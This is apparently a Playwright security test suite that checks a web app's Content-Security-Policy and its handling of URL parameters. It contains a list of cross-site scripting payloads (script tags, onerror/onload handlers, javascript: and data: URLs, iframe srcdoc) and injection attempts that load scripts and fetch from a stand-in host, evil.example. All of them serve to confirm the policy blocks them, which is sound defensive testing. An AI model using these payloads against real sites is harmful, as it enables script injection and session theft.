import type { Page } from "@playwright/test";
import { openShare } from "./exportHelpers.ts";
import { chooseFigure, expect, notices, open, region, SMALL, settled, simulated, slider, test } from "./helpers.ts";

const here = `?v=1&${SMALL}`;

/** In the page, before its own scripts: notes what the policy refuses, and whether planted code has run. */
async function watchPolicy(page: Page): Promise<() => Promise<{ violations: string[]; ran: number }>> {
  page.on("dialog", (dialog) => {
    throw new Error(`a dialog: ${dialog.message()}`);
  });
  await page.addInitScript(() => {
    const seen = { violations: [] as string[], ran: 0 };
    Object.assign(window, { seen, planted: () => seen.ran++ });
    document.addEventListener("securitypolicyviolation", (event) => {
      seen.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  return () => page.evaluate(() => (window as unknown as { seen: { violations: string[]; ran: number } }).seen);
}

const wanted =
  "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self'; style-src 'self'; " +
  "img-src 'self' data: blob:; connect-src 'self'; manifest-src 'self'; base-uri 'none'; form-action 'none'";

test("the built page carries the policy itself, the server says it again, and nothing of the page is inline", async ({
  page,
  request,
}) => {
  const response = await request.get("./");
  expect(response.headers()["content-security-policy"]).toBe(wanted);
  await page.goto(`./${here}`);
  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute("content", wanted);
  const html = await response.text();
  expect(html.indexOf("Content-Security-Policy")).toBeLessThan(html.search(/<(script|link|style)\b/));
  expect(html).not.toMatch(/<script(?![^>]* src=)|<style|\son\w+=|\sstyle=/);
});

test("normal use breaks no rule of the policy: workers, both models, gallery, formulas, training, builder", async ({
  page,
}) => {
  test.slow();
  const seen = await watchPolicy(page);
  await open(page, `${here}&show=simulation&fam=sigma:0,sigma:0.5`);
  await simulated(page, 4);
  await page.mouse.move(700, 400);
  await page.locator(".explanation").scrollIntoViewIfNeeded();
  await expect(page.locator(".formula-panel math").first()).toBeVisible();
  await slider(page, "sigma").focus();
  await page.keyboard.press("ArrowRight");
  await openShare(page, "Embed");
  await expect(page.getByRole("button", { name: "Copy HTML" })).toBeVisible();
  await page.keyboard.press("Escape");
  await chooseFigure(page, "t25-fig1");
  await settled(page);
  expect(await seen()).toEqual({ violations: [], ran: 0 });

  await open(page, "?v=1&m=diagonal&D=60&trials=4&watch=yes&alpha=0.5");
  await region(page, "Watch it train").scrollIntoViewIfNeeded();
  await expect(region(page, "Watch it train").locator(".trace").first()).toBeAttached();
  await simulated(page, 4);
  expect(await seen()).toEqual({ violations: [], ran: 0 });
});

test("nothing in a link runs, loads or leads anywhere, whatever its keys and values hold", async ({
  page,
  watch,
  baseURL,
}) => {
  test.slow();
  const seen = await watchPolicy(page);
  const poison = [
    "<script>planted()</script>",
    '"><img src=x onerror=planted()>',
    "'><svg/onload=planted()>",
    "javascript:planted()",
    "data:text/html,<script>parent.planted()</script>",
    "https://evil.example/x.js",
    `"><iframe srcdoc="<script>parent.planted()</script>"></iframe>`,
    `"><link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>`,
  ];
  const keys = [
    ...["m", "q", "x", "y", "cut", "show", "lim", "pin", "seed", "trials", "fam", "watch", "spread", "embed", "se"],
    ...["theta", "gamma", "L", "sim", "init", "gs", "v", "__proto__"],
  ];
  await open(page, here);
  const loaded = watch.requests.length;
  for (const [i, value] of poison.entries()) {
    const everywhere = keys.map((key) => `${key}=${encodeURIComponent(value)}`).join("&");
    const asKey = `${encodeURIComponent(value)}=1`;
    // As a query, which loads the page anew, and as a fragment, unescaped as far as a browser lets it be.
    if (i % 2 === 0) {
      await page.goto("about:blank");
      await open(page, `?${everywhere}&${asKey}&d=60`);
    } else {
      await page.evaluate(
        (hash) => {
          location.hash = hash;
        },
        `v=1&d=60&${keys.map((key) => `${key}=${value}`).join("&")}&${asKey}`,
      );
      await settled(page);
    }
    await expect(notices(page)).toBeVisible();
    // The poison is words in the notices, or nowhere.
    const planted = await page.evaluate(
      () =>
        document.querySelectorAll(
          "body script, iframe, base, img, object, embed, link:not(head link), [onerror], [onload], [srcdoc], [href^='javascript:'], [href^='data:']:not(head link)",
        ).length,
    );
    expect(planted, value).toBe(0);
  }
  expect(await seen()).toEqual({ violations: [], ran: 0 });
  const origin = new URL(baseURL as string).origin;
  const later = watch.requests.slice(loaded);
  expect(later.filter((url) => new URL(url).origin !== origin)).toEqual([]);
  expect(later.filter((url) => !/\/(assets\/[\w.-]+\.(js|css))?(\?|$)/.test(url))).toEqual([]);
});

test("the policy blocks injected code", async ({ page, watch }) => {
  const seen = await watchPolicy(page);
  await open(page, here);
  const asked: string[] = [];
  await page.route("https://evil.example/**", (route) => {
    asked.push(route.request().url());
    return route.abort();
  });
  const attempts = await page.evaluate(async () => {
    const inline = document.createElement("script");
    inline.textContent = "planted()";
    document.body.append(inline);
    const handler = document.createElement("div");
    handler.innerHTML = '<img src="data:," onerror="planted()"><p style="color:red">x</p>';
    document.body.append(handler);
    const elsewhere = document.createElement("script");
    elsewhere.src = "https://evil.example/x.js";
    document.body.append(elsewhere);
    const frame = document.createElement("iframe");
    frame.src = "https://evil.example/";
    document.body.append(frame);
    const base = document.createElement("base");
    base.href = "https://evil.example/";
    document.head.append(base);
    // In the page's own words: what a debugger evaluates is not held by the policy.
    const tries: Record<string, string> = {};
    const attempt = async (name: string, act: () => unknown) => {
      try {
        await act();
        tries[name] = "allowed";
      } catch (error) {
        tries[name] = (error as Error).name;
      }
    };
    await attempt("connection", () => fetch("https://evil.example/"));
    await attempt("worker", () => {
      const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
      return new Promise((resolve, reject) => {
        worker.onmessage = resolve;
        worker.onerror = () => reject(new DOMException("refused", "SecurityError"));
      });
    });
    tries.base = document.baseURI.startsWith(location.origin) ? "refused" : "allowed";
    await new Promise((done) => setTimeout(done, 300));
    return tries;
  });
  expect(attempts).toEqual({ connection: "TypeError", worker: "SecurityError", base: "refused" });
  const { violations, ran } = await seen();
  expect(ran).toBe(0);
  const directives = new Set(violations.map((v) => v.split(" ")[0]));
  expect([...directives].sort()).toEqual(
    [
      "base-uri",
      "connect-src",
      "frame-src",
      "script-src-attr",
      "script-src-elem",
      "style-src-attr",
      "worker-src",
    ].sort(),
  );
  expect(asked).toEqual([]);
  watch.errors.length = 0;
  watch.requests.splice(0, watch.requests.length, ...watch.requests.filter((url) => !url.includes("evil")));
});

test("eval is refused in the page, WebAssembly is not", async ({ page, watch }) => {
  // A script of our own origin that tries, as a dependency might.
  await page.route("**/assets/tries.js", (route) =>
    route.fulfill({
      contentType: "text/javascript",
      body: `for (const [name, act] of Object.entries({
        eval: () => eval("1"), function: () => new Function("return 1")(), timer: () => setTimeout("planted()", 0),
        kernels: () => new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
      })) try { act(); document.body.dataset[name] = "allowed"; } catch (e) { document.body.dataset[name] = e.name; }`,
    }),
  );
  const seen = await watchPolicy(page);
  await open(page, here);
  await page.evaluate(async () => {
    const script = document.createElement("script");
    script.src = "./assets/tries.js";
    await new Promise((done) => {
      script.onload = done;
      document.body.append(script);
    });
    await new Promise((done) => setTimeout(done, 50));
  });
  const data = await page.evaluate(() => ({ ...document.body.dataset }));
  expect(data).toMatchObject({ eval: "EvalError", function: "EvalError", kernels: "allowed" });
  const { ran, violations } = await seen();
  expect(ran).toBe(0);
  expect(violations.length).toBeGreaterThanOrEqual(3);
  watch.errors.length = 0;
});
